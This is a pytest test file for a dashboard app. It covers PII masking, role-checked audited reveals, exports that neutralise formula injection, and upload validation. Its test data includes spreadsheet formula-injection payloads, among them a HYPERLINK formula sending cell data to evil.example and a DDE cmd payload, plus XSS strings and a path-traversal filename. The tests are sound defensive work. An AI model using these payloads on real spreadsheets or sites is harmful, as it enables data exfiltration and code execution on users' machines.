"""Masking, the audited "show" action, exports (masking, formula injection, audit) and upload checks."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import openpyxl
import pandas as pd
import pytest
from sqlmodel import Session, select

from dashboard.db import get_engine
from dashboard.io import exports
from dashboard.io.uploads import check_upload
from dashboard.kernel import privacy
from dashboard.kernel.errors import Invalid, NotPermitted
from dashboard.kernel.scope import Actor
from models import AuditLog
from models.enums import Role
from tests.factories import World

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def _actor(role: Role) -> Actor:
    return Actor(1, f"u-{role}", "U", role)


@pytest.fixture
def world_session(world: World) -> Iterator[tuple[Session, World]]:
    """The TINY world and a session on it."""
    with Session(get_engine(world.url)) as session:
        yield session, world


# ---------------------------------------------------------------- masking


@pytest.mark.parametrize(
    ("value", "masked"),
    [
        ("张三", "张*"),
        ("张小明", "张*明"),
        ("欧阳小明", "欧**明"),
        ("Li", "L*"),
        ("", ""),
        (None, ""),
    ],
)
def test_mask_name(value: str | None, masked: str) -> None:
    assert privacy.mask_name(value) == masked


@pytest.mark.parametrize(
    ("value", "masked"),
    [
        ("13812345678", "138****5678"),
        ("138-1234-5678", "138****5678"),
        ("0527-84123456", "********3456"),
        ("123", "****"),
        ("", ""),
    ],
)
def test_mask_phone(value: str, masked: str) -> None:
    assert privacy.mask_phone(value) == masked


def test_mask_id_number_and_address() -> None:
    assert privacy.mask_id_number("320102199001011234") == "320*************34"
    assert "19900101" not in privacy.mask_id_number("320102199001011234")
    assert privacy.mask_address("幸福小区3号楼2单元301室") == "幸福小区3号楼***"
    masked = privacy.mask_address("项里街道人民路88号3栋2单元501")
    assert masked.endswith("***") and "501" not in masked


def test_masker_kinds() -> None:
    assert privacy.MASKERS["phone"]("13812345678") == "138****5678"
    assert set(privacy.MASKERS) == {"name", "phone", "id_number", "address"}


# ---------------------------------------------------------------- reveal


@pytest.mark.parametrize("role", list(Role))
def test_reveal_checks_role_and_always_audits(world_session, role: Role) -> None:  # type: ignore[no-untyped-def]
    s, w = world_session
    me = w.actors[str(role)]
    for kind, allowed_roles in (
        ("case", {Role.admin, Role.operator, Role.community}),
        ("volunteer", {Role.admin, Role.volunteer_manager}),
    ):
        expected = role in allowed_roles
        assert privacy.can_reveal(me, kind) is expected
        assert privacy.reveal(s, me, kind, f"{kind}-42") is expected
    s.commit()
    rows = s.exec(select(AuditLog).where(AuditLog.action == "view_pii").order_by(AuditLog.id)).all()
    assert [(r.actor_id, r.target, r.detail) for r in rows] == [
        (me.id, "case-42", "case"),
        (me.id, "volunteer-42", "volunteer"),
    ]
    assert [r.outcome for r in rows] == [
        "ok" if role in a else "denied"
        for a in ({Role.admin, Role.operator, Role.community}, {Role.admin, Role.volunteer_manager})
    ]


# ---------------------------------------------------------------- exports


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "number": ["XL20261120-0001", "XL20261120-0002"]
            + [f"XL20261120-{i:04d}" for i in range(3, 3 + len(HOSTILE))],
            "title": ["<img src=x onerror=alert(1)>", "**bold** [link](javascript:alert(1))", *HOSTILE],
            "reporter_name": ["张小明", "李四"] + ["王五"] * len(HOSTILE),
            "reporter_phone": ["13812345678", "13987654321"] + ["13700001111"] * len(HOSTILE),
            "hours": [1.5, 2.0] + [0.5] * len(HOSTILE),
        }
    )


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_formula(value: str) -> None:
    out = privacy.neutralise_formula(value)
    assert isinstance(out, str) and out.startswith("'") and out[1:] == value


def test_neutralise_leaves_safe_values() -> None:
    for value in ("普通文本", "a=b", "13812345678", 42, 1.5, None):
        assert privacy.neutralise_formula(value) == value


def test_export_frame_masks_and_neutralises() -> None:
    df = _frame()
    out = exports.export_frame(
        df, _actor(Role.operator), {"reporter_name": "name", "reporter_phone": "phone"}
    )
    assert list(out["reporter_name"][:2]) == ["张*明", "李*"]
    assert list(out["reporter_phone"][:2]) == ["138****5678", "139****4321"]
    for cell in out["title"]:
        assert not str(cell).lstrip(" \u3000").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
    assert out["title"][2] == "'" + HOSTILE[0]
    assert out["hours"].tolist() == df["hours"].tolist()  # numbers untouched
    assert df["reporter_name"][0] == "张小明"  # the input is not modified


def test_unmasked_export_only_for_allowed_roles() -> None:
    df = _frame()
    out = exports.export_frame(df, _actor(Role.admin), {"reporter_phone": "phone"}, unmasked=True)
    assert out["reporter_phone"][0] == "13812345678"
    assert out["title"][2] == "'" + HOSTILE[0]  # neutralised even when unmasked
    for role in set(Role) - {Role.admin}:
        with pytest.raises(NotPermitted):
            exports.export_frame(df, _actor(role), {"reporter_phone": "phone"}, unmasked=True)


def test_csv_bytes_bom_and_no_formula() -> None:
    data = exports.to_csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(_frame()) + 1  # "\r=1+1" is quoted: no row (and no formula cell) starts inside it
    assert rows[0] == ["number", "title", "reporter_name", "reporter_phone", "hours"]
    titles = [r[1] for r in rows[1:]]
    assert titles[0] == "<img src=x onerror=alert(1)>"  # kept literally, it is data
    assert all(not t.lstrip(" \u3000").startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for t in titles)
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in titles


def test_xlsx_bytes_has_no_formula_cells() -> None:
    data = exports.to_xlsx_bytes(_frame(), sheet_name="cases")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["cases"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in values
    assert "<img src=x onerror=alert(1)>" in values


def test_export_bytes_writes_one_audit_row(world_session) -> None:  # type: ignore[no-untyped-def]
    s, w = world_session
    data = exports.export_bytes(
        s, w.actors["operator"], "cases", _frame(), "xlsx", {"reporter_phone": "phone"}, filters={"text": "x"}
    )
    assert data.startswith(b"PK")
    with pytest.raises(NotPermitted):
        exports.export_bytes(
            s, w.actors["operator"], "cases", _frame(), "csv", {"reporter_phone": "phone"}, unmasked=True
        )
    exports.export_bytes(
        s, w.actors["admin"], "cases", _frame(), "csv", {"reporter_phone": "phone"}, unmasked=True
    )
    s.commit()
    rows = s.exec(select(AuditLog).where(AuditLog.action == "export").order_by(AuditLog.id)).all()
    assert [(r.actor_id, r.target, r.outcome) for r in rows] == [
        (w.actors["operator"].id, "cases", "ok"),
        (w.actors["admin"].id, "cases", "unmasked"),
    ]
    detail = json.loads(rows[0].detail)
    assert detail == {"rows": len(_frame()), "format": "xlsx", "unmasked": False, "filters": {"text": "x"}}


def test_queue_case_export_masks_and_neutralises(world_session) -> None:  # type: ignore[no-untyped-def]
    """The queue's case export (another area) goes through the same helpers: check the bytes it produces."""
    from dashboard.cases import queue
    from tests.factories import add_case

    s, w = world_session
    add_case(
        s,
        w,
        0,
        title=HOSTILE[0],
        reporter_name="张小明",
        reporter_phone="13812345678",
        description="@SUM(1,1)",
    )
    add_case(s, w, 0, title="abc\r=1+1")
    s.commit()
    data = queue.export_file(s, w.actors["operator"])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    col = {name: i for i, name in enumerate(queue.EXPORT_COLUMNS)}
    assert len(rows) == 3  # header + 2 cases: the carriage return did not start a row
    by_title = {r[col["title"]]: r for r in rows[1:]}
    hostile = by_title["'" + HOSTILE[0]]
    assert hostile[col["description"]] == "'@SUM(1,1)"
    assert hostile[col["reporter_phone"]] == "138****5678" and hostile[col["reporter_name"]] == "张*明"
    assert "abc\r=1+1" in by_title
    assert s.exec(select(AuditLog.action).where(AuditLog.action == "export")).all() == ["export"]


# ---------------------------------------------------------------- uploads


class _Upload(io.BytesIO):
    def __init__(self, name: str, data: bytes) -> None:
        super().__init__(data)
        self.name = name
        self.size = len(data)


def _xlsx() -> bytes:
    return exports.to_xlsx_bytes(pd.DataFrame({"a": [1]}))


def test_check_upload_accepts_good_files() -> None:
    check_upload(_Upload("cases.CSV", "编号,标题\n1,测试\n".encode()), (".csv", ".xlsx"), 1)
    check_upload(_Upload("cases.xlsx", _xlsx()), ["csv", "xlsx"], 1)
    check_upload(_Upload("utf16.csv", "a,b\n".encode("utf-16")), (".csv",), 1)


@pytest.mark.parametrize(
    ("name", "data", "key"),
    [
        ("evil.exe", b"MZ\x90\x00", "upload.bad_type"),
        ("cases.csv.exe", b"a,b\n", "upload.bad_type"),
        ("noext", b"a,b\n", "upload.bad_type"),
        ("empty.csv", b"", "upload.empty"),
        ("big.csv", b"a" * (1024 * 1024 + 1), "upload.too_large"),
        ("fake.xlsx", b"a,b\n1,2\n", "upload.bad_content"),
        ("binary.csv", b"PK\x03\x04\x00\x00\x00", "upload.bad_content"),
        ("../../etc/passwd.txt", b"\x00\x01", "upload.bad_type"),
    ],
)
def test_check_upload_refuses(name: str, data: bytes, key: str) -> None:
    with pytest.raises(Invalid) as e:
        check_upload(_Upload(name, data), (".csv", ".xlsx"), 1)
    assert e.value.key == key


def test_check_upload_missing_file() -> None:
    with pytest.raises(Invalid) as e:
        check_upload(None, (".csv",), 1)
    assert e.value.key == "upload.missing"


def test_upload_limit_in_streamlit_config() -> None:
    import tomllib
    from pathlib import Path

    config = tomllib.loads((Path(__file__).resolve().parents[3] / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] == 50
